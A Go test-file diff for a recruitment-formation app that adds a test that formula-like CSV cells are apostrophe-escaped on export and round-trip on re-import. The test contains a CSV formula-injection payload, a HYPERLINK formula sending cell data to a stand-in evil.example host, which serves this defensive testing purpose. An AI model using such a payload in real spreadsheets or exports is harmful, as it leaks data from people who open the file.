@@ -55,7 +55,7 @@ func TestFormationFiles(t *testing.T) {
 			committee := &api{t: t, base: srv.URL, c: c, token: token(t, c, srv.URL, "panitia", "asnpro-demo")}
 
 			code, _, tmpl := pub.call("GET", "/api/v1/formation-template", nil)
-			if code != 200 || !strings.HasPrefix(string(tmpl), "code,position,unit,") {
+			if code != 200 || !strings.HasPrefix(string(tmpl), "\xEF\xBB\xBFcode,position,unit,") {
 				t.Fatalf("template: %d %s", code, tmpl)
 			}
 			fresh := newDraftPeriod(t, committee, "Templat")
@@ -125,6 +125,51 @@ func TestFormationFiles(t *testing.T) {
 				if code != tc.status || errCode(m) != tc.code {
 					t.Errorf("%s: %d %s, want %d %s", tc.name, code, b, tc.status, tc.code)
 				}
+			}
+		})
+	}
+}
+
+// TestFormationExportFormulaCells: a formation whose position and unit a
+// spreadsheet would run as formulas is exported with an apostrophe in front
+// of those cells (and a BOM first), and the export imports into another
+// period as exactly the same formation.
+func TestFormationExportFormulaCells(t *testing.T) {
+	for _, e := range sqldbtest.Engines() {
+		t.Run(string(e), func(t *testing.T) {
+			srv := apptest.Start(t, e, "--demo")
+			c := apptest.Client()
+			committee := &api{t: t, base: srv.URL, c: c, token: token(t, c, srv.URL, "panitia", "asnpro-demo")}
+			_, _, tmpl := committee.call("GET", "/api/v1/formation-template", nil)
+			row := readRows(t, tmpl)[1]
+			position, unit := `=HYPERLINK("http://evil.example/?d="&A1,"Klik")`, "@Dinas Kesehatan; -Bidang P2P"
+			row[1], row[2] = position, unit
+			var file bytes.Buffer
+			w := csv.NewWriter(&file) // written by hand: no apostrophes
+			w.WriteAll([][]string{readRows(t, tmpl)[0], row})
+			first := newDraftPeriod(t, committee, "Formula")
+			if code, _, b := committee.call("POST", "/api/v1/periods/"+first+"/formations/import", file.Bytes()); code != 200 {
+				t.Fatalf("import: %d %s", code, b)
+			}
+			code, _, export := committee.call("GET", "/api/v1/periods/"+first+"/formations/export?format=csv", nil)
+			if code != 200 || !bytes.HasPrefix(export, []byte("\xEF\xBB\xBFcode,position,")) {
+				t.Fatalf("export: %d %q", code, export)
+			}
+			raw, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(export, []byte("\xEF\xBB\xBF")))).ReadAll()
+			if err != nil || len(raw) != 2 || raw[1][1] != "'"+position || raw[1][2] != "'"+unit {
+				t.Fatalf("export cells: %q %v", raw, err)
+			}
+			second := newDraftPeriod(t, committee, "Formula lagi")
+			if code, _, b := committee.call("POST", "/api/v1/periods/"+second+"/formations/import", export); code != 200 {
+				t.Fatalf("import the export: %d %s", code, b)
+			}
+			_, m, b := committee.call("GET", "/api/v1/periods/"+second+"/formations", nil)
+			items, _ := m["items"].([]any)
+			if len(items) != 1 || items[0].(map[string]any)["position"] != position || items[0].(map[string]any)["unit"] != unit {
+				t.Fatalf("imported formation: %s", b)
+			}
+			if _, _, again := committee.call("GET", "/api/v1/periods/"+second+"/formations/export?format=csv", nil); !bytes.Equal(again, export) {
+				t.Fatalf("round trip differs:\n%q\n%q", again, export)
 			}
 		})
 	}
